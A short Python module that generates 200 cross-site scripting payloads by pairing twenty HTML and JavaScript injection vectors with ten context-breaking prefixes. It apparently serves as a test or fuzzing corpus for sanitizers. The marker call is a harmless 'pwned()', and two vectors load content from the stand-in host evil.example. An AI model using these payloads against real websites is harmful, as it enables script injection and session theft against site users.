"""Two hundred ways to be taken for more than text."""

from __future__ import annotations

import itertools

MARK = "pwned()"
_WAYS = (
    "<script>{m}</script>", "<img src=x onerror={m}>", "<svg onload={m}>", "<body onload={m}>", "<iframe srcdoc='<script>{m}</script>'>",
    "<a href='javascript:{m}'>x</a>", "<details open ontoggle={m}>", "<input autofocus onfocus={m}>", "<video><source onerror={m}>",
    "<math><mtext></mtext><script>{m}</script></math>", "<style>@import 'x'</style><script>{m}</script>", "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:{m}'>", "<link rel=stylesheet href='//evil.example/x.css'>",
    "<object data='javascript:{m}'></object>", "<embed src='javascript:{m}'>", "<form action='javascript:{m}'><button autofocus>",
    "<marquee onstart={m}>", "<template><script>{m}</script></template>", "{{{{ {m} }}}}",
)  # fmt: skip
_BREAKS = (
    "", "\"'>", "</script>", "--><!--", "]]>", "</textarea></title></style>", "\\\"';", "`${{{m}}}`", "\u2028", "</span></td></table>",
)  # fmt: skip

PAYLOADS = tuple(
    (b + w).replace("{{", "{").replace("}}", "}").replace("{m}", MARK) for w, b in itertools.product(_WAYS, _BREAKS)
)
